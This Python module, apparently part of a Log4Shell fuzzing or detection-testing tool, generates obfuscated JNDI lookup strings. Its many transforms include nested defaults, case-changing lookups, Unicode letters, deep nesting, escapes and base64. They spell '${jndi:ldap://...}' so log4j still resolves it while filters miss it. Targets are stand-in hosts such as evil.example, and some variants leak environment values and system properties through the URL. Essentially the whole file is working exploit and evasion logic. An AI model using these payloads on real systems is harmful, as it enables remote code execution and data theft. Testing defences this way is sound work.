# SPDX-License-Identifier: GPL-2.0-or-later
"""A grammar of ways to write a JNDI look-up, ours throughout. Each way is a function of (chance, text) that gives
another text which log4j turns back into the first; log4j.py is asked whether it really does. Knows nothing of
transport: encode.py does that."""

NAMES = ["evil.example", "a.b.evil.example", "x-1.evil.example", "EVIL.example", "xn--fsq.example", "kiss.example"]
ADDRESSES = ["192.0.2.7", "198.51.100.23", "203.0.113.200"]
BRACKETED = ["[2001:db8::7]", "[2001:db8:0:1::c0de]", "[::ffff:192.0.2.9]"]
SCHEMES = ["ldap"] * 6 + ["ldaps", "rmi", "rmi", "dns", "iiop", "nis", "corba", "http", "https", "LDAP", "Rmi"]
PATHS = ["", "/", "/a", "/Basic/x", "/o=tomcat", "/cn=x,dc=example", "/a?b", "/a/b;c=d", "/" + "p" * 40]
UNSET = ["env", "sys", "ctx", "main", "map", "sd", "marker", "bundle", "docker", "k8s", "spring", "web", "log4j",
         "event", "jvmrunargs", "kubernetes", "q", "nope", "what:ever", "-", "x y", "1", "env:env"]
KEYS = ["BARFOO", "no.such.key", "k:l", "a/b", "0", "x_y", "NaN", "user.naame", "__", "zz:", "K8S_X", "\u00e9t\u00e9"]
WORD = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def word(c, least=1, most=8):
    return "".join(c.choice(WORD) for _ in range(c.randint(least, most)))


def mixed(c, s):
    return "".join(c.choice((x.lower(), x.upper())) if len(x.upper()) == len(x.lower()) == 1 else x for x in s)


# --- Ways to write a piece of text ---

def lower(c, s):
    return "${%s:%s}" % (mixed(c, "lower"), mixed(c, s)) if s == s.lower() else s


def upper(c, s):
    return "${%s:%s}" % (mixed(c, "upper"), mixed(c, s)) if s == s.upper() else s


def any_case(c, s):
    return lower(c, s) if s == s.lower() else upper(c, s)


def empty_key(c, s):
    return "${%s:-%s}" % (c.choice(("", ":", "::", ":::", "::::::::", "-:", ".:")), s)


def unset(c, s):
    key = c.choice((c.choice(KEYS), word(c), word(c) + ":" + word(c)))
    return "${%s:%s:-%s}" % (c.choice(UNSET), key, s)


def property_unset(c, s):
    return "${%s:-%s}" % (word(c, 2), s)


def blank_key(c, s):
    blank = c.choice((" ", "\t", "  ", "\n", " \n ", "\r\n", "\u00a0", " x ", "a\nb"))
    return "${%s%s:-%s}" % (c.choice(("", "env:", "q:", "sys:")), blank, s)


def quoted_date(c, s):
    if "'" in s:
        return s
    plain = not any(x.isalpha() for x in s)
    return "${%s:%s}" % (mixed(c, "date"), s if plain and c.random() < .3 else "'" + s + "'")


def kept_delimiter(c, s):
    return "${%s:\\-%s:-%s}" % (c.choice(UNSET), word(c), s)


def nested_default(c, s):
    text = s
    for _ in range(c.randint(2, 5)):
        text = c.choice((empty_key, unset, property_unset))(c, text)
    return text


def name_nested(c, s):
    """The look-up's own name is spelled by look-ups."""
    verb = "lower" if s == s.lower() else "upper" if s == s.upper() else ""
    spelled = "".join(c.choice((empty_key, unset, quoted_date))(c, x) if c.random() < .5 else x for x in verb)
    if not verb or spelled == verb:
        return "${%s:%s:-%s}" % (empty_key(c, "no"), empty_key(c, "such"), s)
    return "${%s:%s}" % (spelled, mixed(c, s))


def case_chain(c, s):
    text = mixed(c, s)
    for _ in range(c.randint(1, 6)):
        text = "${%s:%s}" % (c.choice(("lower", "upper")), text)
    return "${%s:%s}" % ("lower" if s == s.lower() else "upper", text)


def constant(c, s):
    return {":": "${sys:path.separator}", "/": "${sys:file.separator}"}.get(s, s)


def foreign_letter(c, s):
    up = {"i": "\u0131", "I": "\u0131", "s": "\u017f", "S": "\u017f", "ss": "\u00df", "fi": "\ufb01", "st": "\ufb06"}
    if s in up and (s == s.upper() or c.fold):
        return "${upper:%s}" % up[s]
    if s == "k":
        return "${lower:\u212a}"
    return s


def later_wins(c, s):
    """A value that is there wins over a default that is not taken."""
    return "${%s:%s:-%s}" % ("lower" if s == s.lower() else "upper", mixed(c, s), word(c))


def vanishing(c, s):
    nothing = c.choice(("${lower:}", "${::-}", "${x:-}", "${env:%s:-}" % word(c), "${upper:}", "${lower::-x}",
                        "${date:}", "${date::-x}", "${:-}"))
    return c.choice((s + nothing, nothing + s))


def deep(c, s):
    text = mixed(c, s) if s == s.lower() else s
    for _ in range(c.randint(10, 40)):
        text = "${%s%s}" % (c.choice(("::-", "lower:", "x:-", ":-")) if s == s.lower() else "::-", text)
    return "${lower:%s}" % text if s == s.lower() else text


def escaped(c, s):
    """An escape only delays: the layout, or the value's own substitution, takes it for a look-up afterwards."""
    return "${%s:-$${%s:-%s}}" % (c.choice(("x", ":", "env:" + word(c))), c.choice(("", "y", "::")), s)


WAYS = {
    "case": [lower, upper, any_case], "empty key": [empty_key], "unset key": [unset, property_unset],
    "blank key": [blank_key], "date": [quoted_date], "nested default": [nested_default],
    "nested name": [name_nested], "case chain": [case_chain], "constant": [constant],
    "foreign letter": [foreign_letter, foreign_letter, any_case], "kept delimiter": [kept_delimiter],
    "value over default": [later_wins], "vanishing": [vanishing], "deep": [deep], "escaped": [escaped],
}
WAYS["mixed"] = sorted({way for ways in WAYS.values() for way in ways} - {deep}, key=lambda way: way.__name__)


# --- Where it leads ---

def host(c):
    kind = c.random()
    name = c.choice(NAMES) if kind < .6 else c.choice(ADDRESSES) if kind < .85 else c.choice(BRACKETED)
    if kind < .3:
        name = word(c, 1, 12).lower() + "." + name
    return name


def target(c, tricks):
    scheme, name = c.choice(SCHEMES), host(c)
    if tricks:
        trick = c.randrange(7)
        name = [lambda: "127.0.0.1#" + c.choice(NAMES), lambda: word(c) + "@" + name,
                lambda: "${hostName}." + c.choice(NAMES), lambda: "${env:%s}.%s" % (word(c), c.choice(NAMES)),
                lambda: "${sys:java.versiom}-%s" % c.choice(NAMES), lambda: word(c) + ":" + word(c) + "@" + name,
                lambda: "localhost#." + c.choice(NAMES)][trick]()
    port = c.choice(["", "", ":389", ":1389", ":1099", ":53", ":65535", ":%d" % c.randint(1, 65535)])
    path = c.choice(PATHS)
    if c.random() < .15 and path:
        path += c.choice(("${env:USER}", "${java:version}", "${sys:user.home}", "/${ctx:id}"))
    if tricks and trick == 5:
        scheme = "ldap"
    return scheme + "://" + name + port + (path or c.choice(("", "/" + word(c))))


# --- The whole ---

def pieces(c, text, foreign):
    """Cuts the text, leaving look-ups it already holds and what a bracketed address needs whole."""
    out, at = [], 0
    while at < len(text):
        if text.startswith("${", at):
            n = text.index("}", at) + 1 - at
        else:
            n = min(c.choice((1, 1, 1, 2, 3, 5)), len(text) - at)
            if "${" in text[at:at + n + 1] and not text.startswith("${", at):
                n = max(1, text.index("${", at) - at)
            if foreign and n > 2:
                n = 1
        out.append(text[at:at + n])
        at += n
    return out


def spell(c, text, ways, share, foreign=False):
    return "".join(c.choice(ways)(c, x) if not x.startswith("${") and c.random() < share else x
                   for x in pieces(c, text, foreign))


def spelled(c, kind):
    prefix, place = mixed(c, "jndi") if c.random() < .4 else "jndi", target(c, kind == "host trick")
    ways = WAYS.get(kind, [empty_key])
    share = 1 if kind in ("constant", "foreign letter") else c.choice((.3, .6, 1))
    if kind == "deep":
        return "${" + deep(c, prefix.lower()[0]) + prefix[1:] + ":" + place + "}"
    c.fold = True  # the prefix and the scheme are the same in either case, the rest is not
    scheme, rest = place.split(":", 1)
    head = spell(c, prefix + ":", ways, share, kind == "foreign letter")
    head += spell(c, scheme + ":", ways, share * c.choice((0, 1)), kind == "foreign letter")
    c.fold = False
    return "${" + head + spell(c, rest, ways, share * c.choice((0, 0, .4)), kind == "foreign letter") + "}"


def plain(c):
    return "${" + (mixed(c, "jndi") if c.random() < .7 else "jndi") + ":" + target(c, False) + "}"


def with_default(c):
    return plain(c)[:-1] + ":-" + c.choice(("x", "", "${env:HOME}", "fallback")) + "}"


def inner(c):
    """The look-up is a letter, a default or the key of another one, or holds one itself."""
    one, two = plain(c), plain(c)
    return c.choice((lambda: "${x:-" + one + "}", lambda: "${" + one + ":-j}", lambda: "${lower:" + one + "}",
                     lambda: "${env:" + one + ":-" + two + "}", lambda: "${${::-" + one + "}:-j}",
                     lambda: "${date:'" + one + "'}", lambda: "${upper:x}${lower:y}" + one,
                     lambda: "${${" + word(c) + ":-" + one + "}}"))()


def split_opening(c):
    """'$' or '{' is itself a value; the layout substitutes again for a "${" further on."""
    whole = spelled(c, c.choice(("case", "empty key", "unset key")))
    dollar = c.choice(("${::-$}", "${lower:$}", "${x:-$}", "${date:'$'}"))
    return c.choice(("${z}", "${zz}", "${q:r}")) + dollar + whole[1:]


def delayed(c):
    whole = spelled(c, c.choice(("case", "empty key", "unset key")))
    return c.choice(("$" + whole + " ${z}", "$" + whole + "${env:x} ${y}", "${x:-$" + whole + "}",
                     "$" + whole + " " + "${q} ${r}"))


def base64_name(c):
    """Not in log4j itself; applications bring such a look-up, and scanners have used it since 2021."""
    import base64
    whole = plain(c)
    code = base64.b64encode(whole.encode()).decode()
    return c.choice(("${base64:" + code + "}", "${" + mixed(c, "base64") + ":" + code.rstrip("=") + "}",
                     "${${base64:" + base64.b64encode(whole[2:-1].encode()).decode() + "}}"))


KINDS = {kind: (lambda c, kind=kind: spelled(c, kind)) for kind in WAYS}
KINDS.update({"plain": plain, "host trick": lambda c: spelled(c, "host trick"), "own default": with_default,
              "inner": inner, "split opening": split_opening, "delayed": delayed, "base64": base64_name})
